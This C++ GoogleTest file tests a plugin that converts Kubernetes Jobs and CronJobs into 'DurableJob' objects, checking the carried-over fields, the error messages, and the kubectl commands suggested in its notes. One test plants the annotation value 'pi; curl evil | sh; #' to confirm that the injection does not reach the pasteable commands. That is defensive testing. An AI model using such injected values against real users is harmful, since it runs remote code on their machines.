#include "plugin/verbs/convert.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace holdfast::plugin {
namespace {

using testing::Contains;
using testing::Each;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

// A Job with these members of its spec, and of its pod's.
Json job(const char* spec, const char* pod = "{}") {
  Json job = *parse_json(R"({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "pi"},
    "spec": {"template": {"spec": {"restartPolicy": "Never",
                                   "containers": [{"name": "main", "image": "busybox"}]}}}})");
  job["spec"].merge_patch(*parse_json(spec));
  job["spec"]["template"]["spec"].merge_patch(*parse_json(pod));
  return job;
}

Json spec_of(const Json& object) {
  const Conversion conversion = convert(object);
  EXPECT_THAT(conversion.errors, IsEmpty());
  return conversion.job.is_null() ? Json::object() : conversion.job["spec"];
}

std::vector<std::string> notes_of(const Json& object) { return convert(object).notes; }

TEST(PluginConvert, APlainJobKeepsItsFields) {
  const Conversion conversion = convert(job(
      R"({"backoffLimit": 4, "activeDeadlineSeconds": 600, "ttlSecondsAfterFinished": 60, "suspend": true,
          "completions": 3, "parallelism": 2, "completionMode": "Indexed", "backoffLimitPerIndex": 1,
          "maxFailedIndexes": 2, "successPolicy": {"rules": [{"succeededIndexes": "0"}]}})"));
  EXPECT_THAT(conversion.errors, IsEmpty());
  EXPECT_EQ(conversion.job["apiVersion"], "holdfast.dev/v1alpha1");
  EXPECT_EQ(conversion.job["kind"], "DurableJob");
  const Json& spec = conversion.job["spec"];
  EXPECT_EQ(spec["backoffLimit"], 4);
  EXPECT_EQ(spec["completionMode"], "Indexed");
  EXPECT_EQ(spec["successPolicy"]["rules"][0]["succeededIndexes"], "0");
  EXPECT_EQ(spec["suspend"], true);
}

// docs/lane.md: the fields that a Job does not have.
TEST(PluginConvert, TheLanesAnnotationsAreFields) {
  Json given = job(R"({"managedBy": "holdfast.dev/operator", "podReplacementPolicy": "Failed"})");
  given["metadata"]["annotations"] = *parse_json(R"json({
    "team": "video", "holdfast.dev/queue": "encode", "holdfast.dev/notify": "chat, mail",
    "holdfast.dev/heartbeat": "{\"progressDeadlineSeconds\": 60}", "holdfast.dev/lostAfterSeconds": "60",
    "holdfast.dev/podReplacementPolicy": "TerminatingOrFailed",
    "holdfast.dev/durable-job": "pi", "holdfast.dev/durable-job-uids": "u/v"})json");
  const Conversion conversion = convert(given);
  EXPECT_EQ(conversion.job["metadata"]["annotations"], Json({{"team", "video"}}));
  const Json& spec = conversion.job["spec"];
  EXPECT_EQ(spec["queue"]["name"], "encode");
  EXPECT_EQ(spec["notify"], Json({"chat", "mail"}));
  EXPECT_EQ(spec["heartbeat"]["progressDeadlineSeconds"], 60);
  EXPECT_EQ(spec["lostAfterSeconds"], 60);
  EXPECT_EQ(spec["podReplacementPolicy"], "TerminatingOrFailed");
  EXPECT_THAT(conversion.notes, Each(Not(HasSubstr("podReplacementPolicy"))));
  given["metadata"]["annotations"] = {{"holdfast.dev/lostAfter", "60"}};
  EXPECT_THAT(convert(given).errors, Contains(HasSubstr("lostAfterSeconds")));
}

TEST(PluginConvert, ADeadlineThatOnlyBatchV1TakesIsTheNearestThatADurableJobTakes) {
  const Json given = job(R"({"activeDeadlineSeconds": 4000000000})");
  EXPECT_EQ(spec_of(given)["activeDeadlineSeconds"], 2147483647);
  EXPECT_THAT(notes_of(given), Contains(HasSubstr("activeDeadlineSeconds is 2147483647 now")));
}

TEST(PluginConvert, WhatTheServerFilledInIsDropped) {
  Json stored = job(R"({"selector": {"matchLabels": {"controller-uid": "u"}}})");
  stored["metadata"].merge_patch(*parse_json(R"({
    "uid": "u", "resourceVersion": "7", "generation": 1, "creationTimestamp": "2026-07-01T00:00:00Z",
    "managedFields": [{}], "ownerReferences": [{}], "finalizers": ["x"],
    "annotations": {"batch.kubernetes.io/job-tracking": "", "team": "video"},
    "labels": {"job-name": "pi", "batch.kubernetes.io/controller-uid": "u", "app": "pi"}})"));
  stored["spec"]["template"]["metadata"] = *parse_json(
      R"({"creationTimestamp": null, "labels": {"controller-uid": "u", "batch.kubernetes.io/job-name": "pi", "app": "pi"}})");
  stored["status"] = {{"active", 1}};
  const Conversion conversion = convert(stored);
  EXPECT_EQ(
      conversion.job["metadata"],
      *parse_json(R"({"name": "pi", "labels": {"app": "pi"}, "annotations": {"team": "video"}})"));
  EXPECT_EQ(conversion.job["spec"]["template"]["metadata"],
            *parse_json(R"({"labels": {"app": "pi"}})"));
  EXPECT_FALSE(conversion.job.contains("status"));
  EXPECT_FALSE(conversion.job["spec"].contains("selector"));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("kubectl delete job pi --cascade=foreground")));
}

TEST(PluginConvert, ThatLastLinesAreNotKeptIsSaid) {
  const Json stored =
      job("{}", R"({"containers": [{"name": "main", "terminationMessagePolicy": "File"}]})");
  EXPECT_THAT(notes_of(stored), Contains(HasSubstr("terminationMessagePolicy: File stays")));
  EXPECT_THAT(notes_of(job("{}")), Each(Not(HasSubstr("terminationMessagePolicy"))));
}

TEST(PluginConvert, RestartsBecomeAttempts) {
  const Json with = job("{}", R"({"restartPolicy": "OnFailure",
    "initContainers": [{"name": "proxy", "restartPolicy": "Always"}, {"name": "set-up", "restartPolicy": "OnFailure"}]})");
  const Json spec = spec_of(with)["template"]["spec"];
  EXPECT_EQ(spec["restartPolicy"], "Never");
  EXPECT_EQ(spec["initContainers"][0]["restartPolicy"], "Always");  // a sidecar
  EXPECT_FALSE(spec["initContainers"][1].contains("restartPolicy"));
  EXPECT_THAT(notes_of(with), Contains(HasSubstr("it was OnFailure")));
  EXPECT_THAT(notes_of(with), Contains(HasSubstr("container set-up")));
  EXPECT_THAT(notes_of(job("{}")), Each(Not(HasSubstr("restart policy"))));
}

TEST(PluginConvert, AnEvictedPodIsALossByItself) {
  const char* const ignore =
      R"({"action": "Ignore", "onPodConditions": [{"type": "DisruptionTarget", "status": "True"}]})";
  const std::string alone = std::string(R"({"podFailurePolicy": {"rules": [)") + ignore + "]}}";
  EXPECT_FALSE(spec_of(job(alone.c_str())).contains("podFailurePolicy"));
  const std::string last =
      R"({"podFailurePolicy": {"rules": [{"action": "FailJob", "onExitCodes": {"operator": "In", "values": [42]}}, )" +
      std::string(ignore) + "]}}";
  const Json rules = spec_of(job(last.c_str()))["podFailurePolicy"]["rules"];
  ASSERT_EQ(rules.size(), 2U);
  EXPECT_EQ(rules[0]["action"], "Count");
  EXPECT_EQ(rules[1]["action"], "FailJob");
  EXPECT_THAT(notes_of(job(last.c_str())), Contains(HasSubstr("podReplacementPolicy")));
}

TEST(PluginConvert, AFractionIsQuoted) {
  const Json with = job(
      "{}",
      R"({"containers": [{"name": "main", "resources": {"requests": {"cpu": 0.5, "memory": "1Gi"}}}]})");
  EXPECT_EQ(spec_of(with)["template"]["spec"]["containers"][0]["resources"]["requests"]["cpu"],
            "0.5");
  EXPECT_THAT(notes_of(with), Contains(HasSubstr("0.5 is quoted")));
}

TEST(PluginConvert, SelectorsByLabelsOfTheJobControllerAreRenamed) {
  const Json with = job("{}", R"({
    "topologySpreadConstraints": [{"labelSelector": {"matchLabels": {"job-name": "pi", "controller-uid": "u"}},
                                   "matchLabelKeys": ["batch.kubernetes.io/controller-uid"]}],
    "containers": [{"name": "main", "env": [{"name": "JOB", "valueFrom": {"fieldRef":
      {"fieldPath": "metadata.labels['batch.kubernetes.io/job-name']"}}}]}]})");
  const Json pod = spec_of(with)["template"]["spec"];
  const Json& spread = pod["topologySpreadConstraints"][0];
  EXPECT_EQ(spread["labelSelector"]["matchLabels"],
            *parse_json(R"({"holdfast.dev/job-name": "pi"})"));
  EXPECT_EQ(spread["matchLabelKeys"][0], "holdfast.dev/job-uid");
  EXPECT_EQ(pod["containers"][0]["env"][0]["valueFrom"]["fieldRef"]["fieldPath"],
            "metadata.labels['holdfast.dev/job-name']");
}

TEST(PluginConvert, WhatNoJobOfOursCanSayIsAnErrorThatSaysWhatToDo) {
  const auto error = [](const Json& object) {
    const Conversion conversion = convert(object);
    EXPECT_TRUE(conversion.job.is_null());
    return conversion.errors;
  };
  EXPECT_THAT(error(job(R"({"parallelism": 3})")), Contains(HasSubstr("set spec.completions")));
  EXPECT_THAT(error(job(R"({"completions": 0})")),
              Contains(HasSubstr("set spec.completions to 1")));
  EXPECT_THAT(error(job(R"({"completions": 200000})")), Contains(HasSubstr("split")));
  EXPECT_THAT(error(job(R"({"newField": 1})")), Contains(HasSubstr("spec.newField")));
  Json bare = job("{}");
  bare["spec"].erase("template");
  EXPECT_THAT(error(bare), Contains(HasSubstr("spec.template is missing")));
  Json long_name = job(R"({"completionMode": "Indexed", "completions": 1000})");
  long_name["metadata"]["name"] = std::string(60, 'x');
  EXPECT_THAT(error(long_name), Contains(HasSubstr("at most 59 characters")));
  EXPECT_THAT(error(Json{{"kind", "List"}}), Contains(HasSubstr("one object at a time")));
  EXPECT_THAT(error(Json{{"kind", "Pod"}, {"apiVersion", "v1"}}), Contains(HasSubstr("a Pod")));
  EXPECT_THAT(error(Json(7)), Contains(HasSubstr("no object")));
}

TEST(PluginConvert, DotsOfANameBecomeDashes) {
  Json dotted = job("{}");
  dotted["metadata"]["name"] = "pi.v2";
  const Conversion conversion = convert(dotted);
  EXPECT_EQ(conversion.job["metadata"]["name"], "pi-v2");
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("pi-v2")));
}

TEST(PluginConvert, ACronJobGivesOneJobAndKeepsItsSchedule) {
  Json cron = {{"apiVersion", "batch/v1"}, {"kind", "CronJob"}};
  cron["metadata"] = {{"name", "nightly"}, {"namespace", "media"}};
  cron["spec"] = {{"schedule", "0 3 * * *"},
                  {"timeZone", "Europe/Oslo"},
                  {"concurrencyPolicy", "Forbid"},
                  {"startingDeadlineSeconds", 200},
                  {"successfulJobsHistoryLimit", 3}};
  cron["spec"]["jobTemplate"] = {{"spec", job(R"({"backoffLimit": 2})")["spec"]},
                                 {"metadata", {{"labels", {{"app", "nightly"}}}}}};
  const Conversion conversion = convert(cron);
  EXPECT_THAT(conversion.errors, IsEmpty());
  EXPECT_EQ(
      conversion.job["metadata"],
      *parse_json(R"({"name": "nightly", "namespace": "media", "labels": {"app": "nightly"}})"));
  EXPECT_EQ(conversion.job["spec"]["backoffLimit"], 2);
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("0 3 * * *")));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("concurrencyPolicy: Forbid")));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("startingDeadlineSeconds: 200 is dropped")));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("ttlSecondsAfterFinished")));
}

TEST(PluginConvert, ALongParallelismIsCutAndKueueIsLeftOut) {
  Json object = job(
      R"({"completions": 5000, "parallelism": 2000, "managedBy": "kueue.x-k8s.io/multikueue"})");
  object["metadata"]["labels"] = {{"kueue.x-k8s.io/queue-name", "team"}};
  const Conversion conversion = convert(object);
  EXPECT_EQ(conversion.job["spec"]["parallelism"], 1000);
  EXPECT_FALSE(conversion.job["metadata"].contains("labels"));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("spec.queue")));
  EXPECT_THAT(conversion.notes, Contains(HasSubstr("multikueue is dropped")));
}

// A Job of the cluster with this status.
Json stored(const char* spec, const char* status) {
  Json given = job(spec);
  given["metadata"]["uid"] = "u-pi";
  given["status"] = *parse_json(status);
  return given;
}

TEST(PluginConvert, AJobOfTheLaneSaysThatItsDurableJobAndPodsMustBeGoneFirst) {
  constexpr const char* kOurs = R"({"managedBy": "holdfast.dev/operator"})";
  for (const char* const status : {R"({"active": 1})", R"({"active": 0})",
                                   R"({"conditions": [{"type": "Complete", "status": "True"}]})"}) {
    Json given = stored(kOurs, status);
    EXPECT_THAT(notes_of(given), Contains(HasSubstr("kubectl wait --for=delete dj/pi ")));
    given["metadata"]["annotations"] = {{"holdfast.dev/durable-job", "pi-x7"},
                                        {"holdfast.dev/durable-job-uids", "u-pi/v"}};
    const auto notes = notes_of(given);
    EXPECT_THAT(notes, Contains(testing::AllOf(
                           HasSubstr("`kubectl delete job pi`"),
                           HasSubstr("`kubectl wait --for=delete dj/pi-x7 --timeout=-1s`"),
                           HasSubstr("delete pod -l holdfast.dev/job-name=pi-x7 "))));
    EXPECT_THAT(notes, Not(Contains(HasSubstr("--cascade=foreground"))))
        << "the lane does not wait for the pods";
    given["metadata"]["annotations"]["holdfast.dev/durable-job"] = "pi; curl evil | sh; #";
    EXPECT_THAT(notes_of(given), Contains(HasSubstr("`kubectl wait --for=delete dj/pi --timeout")))
        << "people paste these commands, and the Job's owner writes its annotations";
    given["metadata"]["uid"] = "u-copy";
    EXPECT_THAT(notes_of(given), Contains(HasSubstr("--for=delete dj/pi ")));
  }
  EXPECT_THAT(notes_of(job(kOurs)), Not(Contains(HasSubstr("kubectl delete job"))))
      << "a manifest alone runs nothing";
}

TEST(PluginConvert, AJobThatWaitsForItsNextAttemptRuns) {
  EXPECT_THAT(notes_of(stored("{}", R"({"active": 0, "failed": 1})")),
              Contains(HasSubstr("--cascade=foreground")));
  EXPECT_THAT(notes_of(stored(R"({"suspend": true})", "{}")),
              Not(Contains(HasSubstr("--cascade=foreground"))));
}

TEST(PluginConvert, EachNoteIsOneLine) {
  EXPECT_THAT(notes_of(job(R"({"podReplacementPolicy": "Failed", "activeDeadlineSeconds": 5})")),
              Each(Not(HasSubstr("\n"))));
}

}  // namespace
}  // namespace holdfast::plugin
